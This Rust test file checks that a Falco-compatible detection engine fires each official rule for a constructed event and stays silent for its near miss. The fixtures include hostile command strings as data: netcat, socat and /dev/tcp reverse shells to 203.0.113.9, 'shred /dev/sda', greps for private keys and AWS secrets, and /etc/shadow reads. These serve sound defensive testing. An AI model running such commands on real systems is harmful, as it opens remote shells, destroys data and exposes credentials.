//! The official rule files load unchanged, and each of their rules fires for an event and not for its near miss.
//!
//! The files are not part of this repository; without them these tests say so and pass.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use seawall_detect::{Engine, Level, Loaded, Matching, Source, load};
use seawall_event::FlagKind;

use crate::made::{Made, accept, call, connect, exec, open};

pub(crate) const SYSCALL: [&str; 3] =
    ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"];

/// The directory is beside the repository, whether this is its main working tree or another.
#[expect(clippy::print_stdout, reason = "a test says what it skips")]
fn directory() -> Option<PathBuf> {
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    let found =
        here.ancestors().map(|above| above.join("shared/data/falco-rules")).find(|path| path.is_dir());
    if found.is_none() {
        println!("skipped: there are no official rules in shared/data/falco-rules");
    }
    found
}

/// The official files with their names.
pub(crate) fn official_files(names: &[&str]) -> Option<Vec<(String, String)>> {
    let directory = directory()?;
    let read = |name: &&str| ((*name).to_owned(), fs::read_to_string(directory.join(name)).unwrap());
    Some(names.iter().map(read).collect())
}

/// The official files and one of our own behind them.
pub(crate) fn load_official(names: &[&str], own: &str) -> Option<Loaded> {
    let mut files = official_files(names)?;
    files.push(("own.yaml".to_owned(), own.to_owned()));
    Some(load(&files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect::<Vec<_>>()))
}

#[test]
fn the_official_files_load_without_errors() {
    let check = |names: &[&str], counts: &str| {
        let Some(loaded) = load_official(names, "") else { return };
        let errors: Vec<String> = loaded
            .diagnostics
            .iter()
            .filter(|diagnostic| diagnostic.level == Level::Error)
            .map(|diagnostic| diagnostic.to_string())
            .collect();
        assert!(errors.is_empty(), "{}", errors.join("\n"));
        assert_eq!(loaded.counts.to_string(), counts);
        assert_eq!(loaded.rules.len(), loaded.counts.rules);
    };
    check(&SYSCALL, "93 rules, 315 macros, 118 lists");
    check(&SYSCALL[..1], "25 rules, 87 macros, 49 lists");
    check(&["k8s_audit_rules.yaml"], "48 rules, 45 macros, 18 lists");
}

#[test]
fn official_rules_know_their_event_types() {
    let Some(loaded) = load_official(&SYSCALL, "") else { return };
    let types: BTreeSet<&str> =
        loaded.rules.iter().flat_map(|rule| rule.event_types.iter()).map(|kind| kind.name()).collect();
    // The 41 of the field notes and none that no rule names.
    assert!(loaded.rules.iter().all(|rule| rule.event_types.len() < 20), "{types:?}");
    let of = |name: &str| {
        let rule = loaded.rules.iter().find(|rule| rule.name == name).unwrap();
        rule.event_types.iter().map(|kind| kind.name()).collect::<Vec<_>>().join(" ")
    };
    assert_eq!(of("Terminal shell in container"), "execve execveat");
    assert_eq!(of("Clear Log Activities"), "open openat openat2");
    assert_eq!(of("Schedule Cron Jobs"), "execve execveat open openat openat2");
    assert_eq!(of("Create files below dev"), "creat open openat openat2");
    assert_eq!(of("Launch Disallowed Container"), "execve execveat");
    assert_eq!(types.len(), 41, "{types:?}");
}

/// What a user writes so that the rules which are empty templates can fire.
const OWN: &str = "
- list: namespace_scope_network_only_subnet
  items: [prod]
  override: {items: replace}
- macro: allowed_containers
  condition: (container.image.repository = registry.example/allowed)
  override: {condition: replace}
";

/// A rule, an event that fires it, one that nearly does.
fn cases() -> Vec<(&'static str, Made, Made)> {
    [stable(), incubating(), sandbox(), sandbox_programs()].into_iter().flatten().collect()
}

const WRITE: &str = "O_CREAT|O_WRONLY";
const READ: &str = "O_RDONLY";

fn stable() -> Vec<(&'static str, Made, Made)> {
    let ptrace = |request| call("ptrace").flags("request", FlagKind::PtraceRequest, request);
    let shadow = || open("/etc/shadow", READ);
    let raw = "/etc/../etc/../etc/shadow";
    let packet = |family| call("socket").inside().flags("domain", FlagKind::SocketFamily, family);
    let module = |cap| call("finit_module").inside().caps(&[cap]).result(-9);
    let agent = |cap| open("/tmp/cgroup/release_agent", WRITE).inside().caps(&[cap]);
    let dup = |fd| connect("203.0.113.9:4444").inside().dup().result(fd);
    let api = || connect("10.96.0.1:443").server_name("kubernetes.default.svc.cluster.local");
    vec![
        (
            "Directory traversal monitored file read",
            shadow().raw(raw).by("python3").below(&["systemd"]),
            shadow().raw(raw).by("python3").below(&["bash"]),
        ),
        (
            "Read sensitive file trusted after startup",
            shadow().by("httpd").seconds_old(6),
            shadow().by("httpd").seconds_old(4),
        ),
        ("Read sensitive file untrusted", shadow().by("python3"), shadow().by("sudo")),
        ("Run shell untrusted", exec("sh -c id").below(&["nginx"]), exec("sh -c id").below(&["sshd"])),
        (
            "System user interactive",
            exec("id").user(1, "daemon").below(&["bash", "sshd"]),
            exec("id").user(1000, "alice").below(&["bash", "sshd"]),
        ),
        (
            "Terminal shell in container",
            exec("sh").inside().tty(34816).below(&["runc"]),
            exec("sh").inside().tty(0).below(&["runc"]),
        ),
        ("Contact K8S API Server From Container", api().inside(), api().inside().namespace("kube-system")),
        (
            "Netcat Remote Code Execution in Container",
            exec("nc -e /bin/sh 203.0.113.9 1").inside(),
            exec("nc -z 203.0.113.9 1").inside(),
        ),
        ("Search Private Keys or Passwords", exec("grep BEGIN RSA PRIVATE x"), exec("grep BEGIN x")),
        (
            "Clear Log Activities",
            open("/var/log/auth.log", "O_TRUNC|O_WRONLY"),
            open("/var/log/auth.log", "O_APPEND|O_WRONLY"),
        ),
        ("Remove Bulk Data from Disk", exec("shred /dev/sda"), exec("rm x")),
        (
            "Create Symlink Over Sensitive Files",
            call("symlink").arg("target", "/etc/shadow"),
            call("symlink").arg("target", "/etc/hosts"),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            call("link").arg("oldpath", "/etc/shadow"),
            call("link").arg("oldpath", "/etc/hosts"),
        ),
        ("Packet socket created in container", packet("AF_PACKET"), packet("AF_INET")),
        ("Redirect STDOUT/STDIN to Network Connection in Container", dup(1), dup(5)),
        ("Linux Kernel Module Injection Detected", module("CAP_SYS_MODULE"), module("CAP_CHOWN")),
        (
            "Debugfs Launched in Privileged Container",
            exec("debugfs /dev/sda").inside().privileged(),
            exec("debugfs /dev/sda").inside(),
        ),
        ("Detect release_agent File Container Escapes", agent("CAP_SYS_ADMIN"), agent("CAP_CHOWN")),
        ("PTRACE attached to process", ptrace("PTRACE_ATTACH"), ptrace("PTRACE_CONT")),
        ("PTRACE anti-debug attempt", ptrace("PTRACE_TRACEME"), ptrace("PTRACE_CONT")),
        ("Find AWS Credentials", exec("grep aws_secret_access_key x"), exec("grep secret x")),
        ("Execution from /dev/shm", exec("/dev/shm/x"), exec("/tmp/x")),
        (
            "Drop and execute new binary in container",
            exec("ls").inside().upper_layer(true),
            exec("ls").inside().upper_layer(false),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            connect("203.0.113.9:443").by("ssh").result(-115),
            connect("203.0.113.9:22").by("ssh"),
        ),
        ("Fileless execution via memfd_create", exec("x").in_memory_only(), exec("runc").in_memory_only()),
    ]
}

fn incubating() -> Vec<(&'static str, Made, Made)> {
    let chmod = |mode| call("fchmodat").flags("mode", FlagKind::Mode, mode);
    let metadata = || connect("169.254.169.254:80").inside();
    vec![
        (
            "Modify Shell Configuration File",
            open("/root/.bashrc", WRITE).by("python3"),
            open("/root/.bashrc", WRITE).by("bash"),
        ),
        ("Schedule Cron Jobs", open("/etc/cron.d/x", WRITE), open("/etc/cron.d/x", READ)),
        ("Read ssh information", open("/root/.ssh/id_rsa", READ), open("/root/.ssh/id_rsa", READ).by("ssh")),
        (
            "DB program spawned process",
            exec("sh -c id").below(&["mysqld"]),
            exec("sh -c id").below(&["nginx"]),
        ),
        ("Change thread namespace", call("setns"), call("setns").by("runc init")),
        (
            "Change namespace privileges via unshare",
            call("unshare").inside().caps(&["CAP_CHOWN"]),
            call("unshare").inside().caps(&["CAP_SYS_ADMIN"]),
        ),
        (
            "Launch Privileged Container",
            exec("sh").inside().privileged().vpid(1),
            exec("sh").inside().privileged().vpid(7),
        ),
        (
            "Launch Excessively Capable Container",
            exec("sh").inside().vpid(1).caps(&["CAP_SYS_ADMIN"]),
            exec("sh").inside().vpid(1).caps(&["CAP_CHOWN"]),
        ),
        (
            "System procs network activity",
            connect("203.0.113.9:80").by("cat"),
            connect("203.0.113.9:80").by("curl"),
        ),
        (
            "Program run with disallowed http proxy env",
            exec("curl x").env(&["http_proxy=http://203.0.113.9"]),
            exec("curl x").env(&["HOME=/root"]),
        ),
        ("Unexpected UDP Traffic", connect("203.0.113.9:9999").udp(), connect("203.0.113.9:53").udp()),
        (
            "Non sudo setuid",
            call("setuid").arg("uid", "root").user(1000, "alice"),
            call("setuid").arg("uid", "root").user(1000, "alice").by("sudo"),
        ),
        ("User mgmt binaries", exec("useradd eve").below(&["bash"]), exec("useradd eve")),
        ("Create files below dev", open("/dev/evil", WRITE), open("/dev/null", WRITE)),
        (
            "Contact EC2 Instance Metadata Service From Container",
            metadata(),
            connect("169.254.169.253:80").inside(),
        ),
        ("Contact cloud metadata service from container", metadata(), metadata().namespace("kube-system")),
        (
            "Launch Package Management Process in Container",
            exec("apt-get install x").inside(),
            exec("apt-get install x").inside().user(100, "_apt"),
        ),
        ("Launch Suspicious Network Tool in Container", exec("nmap x").inside(), exec("nmap x")),
        ("Launch Suspicious Network Tool on Host", exec("nmap x"), exec("nmap x").inside()),
        (
            "Delete or rename shell history",
            call("unlink").arg("path", "/root/.bash_history"),
            call("unlink").arg("path", "/root/history"),
        ),
        ("Set Setuid or Setgid bit", chmod("S_ISUID|S_IXUSR"), chmod("S_IXUSR")),
        ("Launch Remote File Copy Tools in Container", exec("scp x y:").inside(), exec("scp x y:")),
        (
            "Network Connection outside Local Subnet",
            connect("203.0.113.9:443").inside().namespace("prod"),
            connect("10.1.1.1:443").inside().namespace("prod"),
        ),
        (
            "Mount Launched in Privileged Container",
            exec("mount /dev/sda /mnt").inside().privileged(),
            exec("mount -l").inside().privileged(),
        ),
        (
            "Launch Ingress Remote File Copy Tools in Container",
            exec("wget http://x").inside(),
            exec("curl http://x").inside(),
        ),
        (
            "Read environment variable from /proc files",
            open("/proc/1/environ", READ).inside(),
            open("/proc/1/maps", READ).inside(),
        ),
        (
            "Exfiltrating Artifacts via Kubernetes Control Plane",
            open("/app/secret", READ).inside().by("tar cf - /app").below(&["runc"]),
            open("/app/secret", READ).inside().by("tar cf - /app").below(&["bash"]),
        ),
        (
            "Adding ssh keys to authorized_keys",
            open("/root/.ssh/authorized_keys", WRITE),
            open("/root/.ssh/known_hosts", WRITE),
        ),
        (
            "Potential Local Privilege Escalation via Environment Variables Misuse",
            exec("su").env(&["GLIBC_TUNABLES=x"]),
            exec("su").env(&["LANG=C"]),
        ),
        (
            "Backdoored library loaded into SSHD (CVE-2024-3094)",
            open("/lib/liblzma.so.5.6.1", READ).by("sshd"),
            open("/lib/liblzma.so.5.4.1", READ).by("sshd"),
        ),
        (
            "BPF Program Not Profiled",
            call("bpf").flags("cmd", FlagKind::BpfCommand, "BPF_PROG_LOAD"),
            call("bpf").flags("cmd", FlagKind::BpfCommand, "BPF_PROG_LOAD").by("bpftool"),
        ),
    ]
}

fn sandbox() -> Vec<(&'static str, Made, Made)> {
    let sensitive = || exec("sh").inside().vpid(1).mount("/etc", "/host");
    let pool = |server| connect(server).server_name("pool.minexmr.com");
    let create = |mode| {
        let made = open("/tmp/x", WRITE).inside();
        made.flags("mode", FlagKind::Mode, mode)
    };
    let chmod = |mode| call("chmod").inside().flags("mode", FlagKind::Mode, mode);
    let java =
        |data: &[u8]| connect("203.0.113.9:80").by("/opt/bin/java -jar x").named("recvfrom").data(data);
    vec![
        ("Unexpected inbound connection source", accept("203.0.113.9:5000"), accept("10.1.1.1:5000")),
        (
            "Read Shell Configuration File",
            open("/root/.bashrc", READ).by("cat"),
            open("/root/.bashrc", READ).by("bash"),
        ),
        (
            "Update Package Repository",
            open("/etc/apt/sources.list", WRITE).by("vi"),
            open("/etc/apt/sources.list", WRITE).by("apt"),
        ),
        ("Write below binary dir", open("/usr/bin/x", WRITE), open("/usr/bin/x", WRITE).by("dpkg")),
        ("Write below monitored dir", open("/boot/x", WRITE), open("/boot/x", READ)),
        ("Write below etc", open("/etc/x", WRITE), open("/etc/x", WRITE).by("useradd eve")),
        ("Write below root", open("/root/x", WRITE), open("/root/.bash_history", WRITE)),
        ("Write below rpm database", open("/var/lib/rpm/x", WRITE), open("/var/lib/rpm/x", WRITE).by("rpm")),
        (
            "Modify binary dirs",
            call("rename").arg("oldpath", "/usr/bin/x").arg("newpath", "/tmp/x"),
            call("rename").arg("oldpath", "/opt/x").arg("newpath", "/tmp/x"),
        ),
        ("Mkdir binary dirs", call("mkdir").arg("path", "/usr/bin/x"), call("mkdir").arg("path", "/tmp/x")),
        ("Launch Sensitive Mount Container", sensitive(), sensitive().image("docker.io/sysdig/sysdig")),
        (
            "Launch Disallowed Container",
            exec("sh").inside().vpid(1),
            exec("sh").inside().vpid(1).image("registry.example/allowed"),
        ),
        (
            "Interpreted procs inbound network activity",
            accept("203.0.113.9:5000").by("python3"),
            accept("203.0.113.9:5000").by("nginx"),
        ),
        (
            "Interpreted procs outbound network activity",
            connect("203.0.113.9:80").by("python3"),
            connect("203.0.113.9:80").by("curl"),
        ),
        (
            "Unexpected K8s NodePort Connection",
            connect("10.1.1.1:30001").inside(),
            connect("10.1.1.1:443").inside(),
        ),
        (
            "Create Hidden Files or Directories",
            call("mkdir").arg("path", "/tmp/.x"),
            call("mkdir").arg("path", "/tmp/x"),
        ),
        (
            "Detect outbound connections to common miner pool ports",
            pool("203.0.113.9:3333"),
            pool("203.0.113.9:22"),
        ),
        ("Container Drift Detected (chmod)", chmod("S_IXUSR"), chmod("S_IRUSR")),
        ("Container Drift Detected (open+create)", create("S_IXUSR"), create("S_IRUSR")),
        (
            "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
            call("userfaultfd").user(1000, "alice").result(3),
            call("userfaultfd").result(3),
        ),
        (
            "Java Process Class File Download",
            java(&[0, 0xca, 0xfe, 0xba, 0xbe, 0]),
            java(&[0, 0xca, 0xfe, 0xba, 0, 0]),
        ),
        (
            "Modify Container Entrypoint",
            open("/proc/self/exe", WRITE).inside(),
            open("/proc/self/exe", WRITE).inside().by("runc:[1:CHILD] init"),
        ),
        (
            "Privileged Container Device Access",
            open("/dev/sda", READ).inside(),
            open("/dev/sr0", READ).inside(),
        ),
        (
            "Container Access to Host Sensitive Paths",
            open("/host/etc/x", READ).inside(),
            open("/hosts", READ).inside(),
        ),
    ]
}

fn sandbox_programs() -> Vec<(&'static str, Made, Made)> {
    let below_web = |line| exec(line).below(&["php-fpm"]);
    vec![
        (
            "Detect crypto miners using the Stratum protocol",
            exec("x -o stratum+tcp://203.0.113.9:1"),
            exec("x -o http://203.0.113.9:1"),
        ),
        (
            "Kubernetes Client Tool Launched in Container",
            exec("kubectl get pods").inside(),
            exec("kubectl get pods"),
        ),
        (
            "Container Run as Root User",
            exec("sh").inside().vpid(1),
            exec("sh").inside().vpid(1).user(1000, "app"),
        ),
        (
            "Sudo Potential Privilege Escalation",
            exec("sudoedit -s \\").login(1000),
            exec("sudoedit -s x").login(1000),
        ),
        (
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            exec("pkexec").login(1000),
            exec("pkexec id").login(1000),
        ),
        ("Decoding Payload in Container", exec("base64 -d x").inside(), exec("base64 x").inside()),
        (
            "Basic Interactive Reconnaissance",
            exec("whoami").tty(34816).vpid(9).vpgid(9),
            exec("whoami").tty(34816).vpid(9).vpgid(8),
        ),
        (
            "Netcat/Socat Remote Code Execution on Host",
            exec("socat TCP:203.0.113.9:1 EXEC:sh"),
            exec("socat TCP:203.0.113.9:1 -"),
        ),
        (
            "Network Tool Executed During NPM Package Install",
            exec("nc x 1").inside().below(&["sh", "node", "npm"]),
            exec("nc x 1").inside().below(&["sh", "node"]),
        ),
        ("Known Cryptominer Process Executed", exec("xmrig"), exec("xmr")),
        ("Web Server Spawned Shell", below_web("sh -c id"), exec("sh -c id").below(&["sshd"])),
        (
            "Web Server Spawned Suspicious Child Process",
            below_web("curl http://x"),
            below_web("curl http://x/healthcheck"),
        ),
        (
            "Reverse Shell from Web Server",
            below_web("bash -c bash -i >& /dev/tcp/203.0.113.9/1"),
            below_web("bash -c ls"),
        ),
    ]
}

#[test]
fn each_official_rule_fires_for_its_event_and_not_for_its_near_miss() {
    let Some(loaded) = load_official(&SYSCALL, &enabled(OWN)) else { return };
    let mut engine = Engine::new(loaded, Matching::All);
    let names: Vec<String> = engine.rules().iter().map(|rule| rule.name.clone()).collect();
    let mut fired = |made: Made| -> BTreeSet<String> {
        engine.matches(&made.event()).map(|rule| names[rule].clone()).collect()
    };
    let mut wrong = Vec::new();
    let mut tried = BTreeSet::new();
    for (rule, fires, near_miss) in cases() {
        assert!(tried.insert(rule.to_owned()), "{rule} is there twice");
        if !fired(fires).contains(rule) {
            wrong.push(format!("{rule} does not fire"));
        }
        if fired(near_miss).contains(rule) {
            wrong.push(format!("{rule} fires for its near miss"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let untried: Vec<&String> = names.iter().filter(|name| !tried.contains(*name)).collect();
    assert!(untried.is_empty(), "{untried:?}");
}

/// Our own file with every rule switched on that the official files switch off.
fn enabled(own: &str) -> String {
    let mut text = own.to_owned();
    let Some(loaded) = load_official(&SYSCALL, "") else { return text };
    for rule in loaded.rules.iter().filter(|rule| !rule.enabled && rule.source == Source::Syscall) {
        text.push_str(&format!(
            "- rule: '{}'\n  enabled: true\n  override: {{enabled: replace}}\n",
            rule.name
        ));
    }
    text
}

#[test]
fn an_absent_field_is_in_no_list_so_every_container_start_has_a_sensitive_mount() {
    // The sandbox rule means "the mount is known" and writes `not … in ("<NA>","N/A")`, which is true of no mount
    // at all. Falco says the same; this is here so that nobody "repairs" it.
    let Some(loaded) = load_official(&SYSCALL, "") else { return };
    let mut engine = Engine::new(loaded, Matching::All);
    let event = exec("sh").inside().vpid(1).event();
    let matched: Vec<usize> = engine.matches(&event).collect();
    assert!(matched.iter().any(|rule| engine.rules()[*rule].name == "Launch Sensitive Mount Container"));
}
